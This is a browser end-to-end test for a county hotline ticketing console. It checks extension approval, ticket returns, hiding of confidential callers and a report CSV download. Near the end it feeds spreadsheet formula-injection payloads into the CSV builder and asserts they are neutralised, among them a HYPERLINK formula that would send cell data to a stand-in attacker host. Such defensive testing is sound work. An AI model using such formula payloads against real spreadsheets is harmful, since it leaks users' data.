// The rest of the department's desk and the bureau's answers, live:
// an extension request the bureau approves, a return (退单) that lands in the
// bureau's dispatch queue, a confidential caller the department never sees,
// and the report's CSV download.
import {test} from 'node:test';
import assert from 'node:assert/strict';
import {mkdtemp, readdir, readFile, rm} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {startServer, launchBrowser, openPage, signIn, screenshot, text, cspViolations} from './harness.mjs';

test('extension approved, return re-queued, confidential caller hidden, report CSV downloaded', {timeout: 280000}, async () => {
  const server = await startServer();
  const browser = await launchBrowser();
  const downloads = await mkdtemp(path.join(tmpdir(), 'hotline-downloads-'));
  try {
    const {api} = server;
    const housingToken = await api.department('housing', '县住房和城乡建设局');
    await api.department('parks', '县园林局');
    const slow = await api.ticket({title: '违建阳台拆除', type: 'COMPLAINT', topic: '违建', content: '邻居加建阳台。'}, 'departments/housing');
    const wrong = await api.ticket({title: '公园树木倒伏', type: 'HELP', topic: '园林', content: '公园大树倒在步道上。'}, 'departments/housing');
    const hidden = await api.ticket({title: '物业乱收费', type: 'REPORT', topic: '物业', content: '物业收取不明费用。',
      callerName: '李四保密', callerPhone: '13900009999', confidential: true}, 'departments/housing');
    const idOf = (t) => t.name.split('/').pop();

    const bureau = await openPage(browser, server.base);
    await signIn(bureau.page, server.token);
    const dept = await openPage(browser, server.base);
    const deptBodies = [];
    dept.page.on('response', async (res) => {
      if (!res.url().includes('/v1/') || res.url().includes('events:watch')) return;
      try { deptBodies.push(await res.text()); } catch { /* redirects have no body */ }
    });
    await signIn(dept.page, housingToken);

    // Sign for all three from the desk.
    for (const t of [slow, wrong, hidden]) {
      const row = `#queue-dispatched tr[data-ticket="${t.name}"]`;
      await dept.page.waitForSelector(row);
      await dept.page.click(`${row} button.sign`);
      await dept.page.waitForSelector(`#queue-in-progress tr[data-ticket="${t.name}"]`);
    }

    // The bureau watches its extension page while the department asks.
    await bureau.page.evaluate(() => { location.hash = '#/extensions'; });
    await bureau.page.waitForSelector('#extension-list li.empty');
    await dept.page.evaluate((id) => { location.hash = `#/tickets/${id}`; }, idOf(slow));
    const ask = '#ticket-actions form[data-action="requestExtension"]';
    await dept.page.waitForSelector(ask);
    await dept.page.$eval(`${ask} input[name=workingDays]`, (el) => { el.value = ''; });
    await dept.page.type(`${ask} input[name=workingDays]`, '5');
    await dept.page.type(`${ask} textarea[name=reason]`, '需等待规划部门出具认定意见。');
    await dept.page.click(`${ask} button[type=submit]`);
    await dept.page.waitForFunction(() => /延期待批/.test(document.querySelector('.page-head')?.textContent || ''));

    const item = `#extension-list li[data-ticket="${slow.name}"]`;
    await bureau.page.waitForSelector(item);
    assert.match(await text(bureau.page, item), /5 个工作日/);
    await screenshot(bureau.page, 'bureau-extension-request');
    await bureau.page.click(`${item} button.primary`);
    await bureau.page.waitForSelector('#extension-list li.empty');
    const extended = await api.get(`/v1/${slow.name}`);
    assert.equal(extended.extensionCount, 1);
    assert.equal(extended.pendingExtension, undefined);
    assert.ok(Date.parse(extended.replyDueAt) > Date.parse(slow.replyDueAt), 'the deadline moved');
    // The department's page follows: the badge goes away.
    await dept.page.waitForFunction(() => !/延期待批/.test(document.querySelector('.page-head')?.textContent || ''));

    // A return (退单) shows up in the bureau's dispatch queue without a reload.
    await bureau.page.evaluate(() => { location.hash = '#/dispatch'; });
    await bureau.page.waitForSelector('#dispatch-list');
    await dept.page.evaluate((id) => { location.hash = `#/tickets/${id}`; }, idOf(wrong));
    const back = '#ticket-actions form[data-action="return"]';
    await dept.page.waitForSelector(back);
    await dept.page.type(`${back} textarea[name=reason]`, '公园树木归园林局管理。');
    await dept.page.click(`${back} button[type=submit]`);
    await dept.page.waitForSelector('#queue-in-progress');
    assert.equal(await dept.page.$(`#queue-in-progress tr[data-ticket="${wrong.name}"]`), null);
    const queued = `#dispatch-list li[data-ticket="${wrong.name}"]`;
    await bureau.page.waitForSelector(queued);
    assert.match(await text(bureau.page, queued), /已退单/);

    // A confidential caller never reaches the department's browser.
    await dept.page.evaluate((id) => { location.hash = `#/tickets/${id}`; }, idOf(hidden));
    await dept.page.waitForSelector('#ticket-facts');
    assert.match(await text(dept.page, '#ticket-facts'), /保密/);
    assert.doesNotMatch(await dept.page.evaluate(() => document.body.innerText), /李四保密|13900009999/);
    assert.ok(deptBodies.length > 5);
    for (const body of deptBodies) assert.doesNotMatch(body, /李四保密|13900009999/);
    // The bureau does see the caller.
    await bureau.page.evaluate((id) => { location.hash = `#/tickets/${id}`; }, idOf(hidden));
    await bureau.page.waitForSelector('#ticket-facts');
    assert.match(await text(bureau.page, '#ticket-facts'), /李四保密/);

    // The report's CSV, built in the page from the figures.
    const cdp = await bureau.page.createCDPSession();
    await cdp.send('Browser.setDownloadBehavior', {behavior: 'allow', downloadPath: downloads,
      browserContextId: bureau.context.id});
    await bureau.page.evaluate(() => { location.hash = '#/report'; });
    await bureau.page.waitForSelector('#report-csv');
    assert.match(await text(bureau.page, '#report-zh'), /收到市12345投诉举报平台转派工单3件/);
    await bureau.page.click('#report-csv');
    // Chromium writes the download on its own time: waited for generously.
    let files = [];
    const giveUp = Date.now() + 60000;
    while (Date.now() < giveUp && !files.some((f) => f.endsWith('.csv'))) {
      await new Promise((r) => setTimeout(r, 100));
      files = await readdir(downloads);
    }
    const csvFile = files.find((f) => f.endsWith('.csv'));
    assert.ok(csvFile, `a CSV was downloaded (${files.join(', ')})`);
    const csv = (await readFile(path.join(downloads, csvFile), 'utf8')).replace(/^\ufeff/, '');
    const lines = csv.trim().split('\n');
    assert.equal(lines[0].split(',').slice(0, 3).join(','), 'scope,key,received');
    assert.match(lines[1], /^total,all tickets,3,3,/);
    assert.ok(lines.some((l) => l.startsWith('department,departments/housing,')));
    assert.ok(lines.some((l) => l.startsWith('day,2021-02-01,3,')));

    assert.deepEqual(await cspViolations(bureau.page), []);
    assert.deepEqual(await cspViolations(dept.page), []);

    // Cells a spreadsheet would evaluate (a caller's topic) are neutralised;
    // the tickets nobody holds have a key of their own.
    const evil = await bureau.page.evaluate(async () => {
      const report = await import('/console/js/pages/report.js');
      return report.reportCsv({total: {}, departments: [{department: '', figures: {}}],
        topTopics: ['=HYPERLINK("http://evil.example/?q="&A1,"x")', '+1', '-2', '@SUM(A1)', '\tx', '普通']
          .map((topic) => ({topic, received: 1}))});
    });
    const cells = evil.trim().split('\n');
    assert.ok(cells.some((l) => l.startsWith('department,(not dispatched),')), evil);
    // A topic row: its count, every other figure empty.
    const width = cells[0].split(',').length;
    assert.ok(cells.includes(`topic,"'=HYPERLINK(""http://evil.example/?q=""&A1,""x"")",1${','.repeat(width - 3)}`), evil);
    for (const lead of ['+1', '-2', '@SUM(A1)', '\tx']) {
      assert.ok(cells.some((l) => l.startsWith(`topic,"'${lead}",1,`)), `${lead}: ${evil}`);
    }
    assert.ok(cells.some((l) => l.startsWith('topic,普通,1,')), evil);
  } finally {
    await browser.close();
    await server.stop();
    await rm(downloads, {recursive: true, force: true});
  }
});
